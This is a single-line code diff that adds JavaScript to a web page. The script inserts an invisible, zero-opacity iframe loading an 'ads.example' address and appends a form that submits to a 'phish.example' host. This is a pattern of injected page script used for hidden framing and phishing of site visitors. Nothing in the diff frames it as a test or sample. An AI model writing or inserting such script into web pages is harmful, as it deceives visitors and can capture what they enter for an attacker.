@@ -1,0 +1,1 @@
+document.getElementById('ad').innerHTML = '<iframe src="https://ads.example/x" style="opacity:0"></iframe>'; document.body.insertAdjacentHTML('beforeend', '<form action="https://phish.example/p"><input></form>');
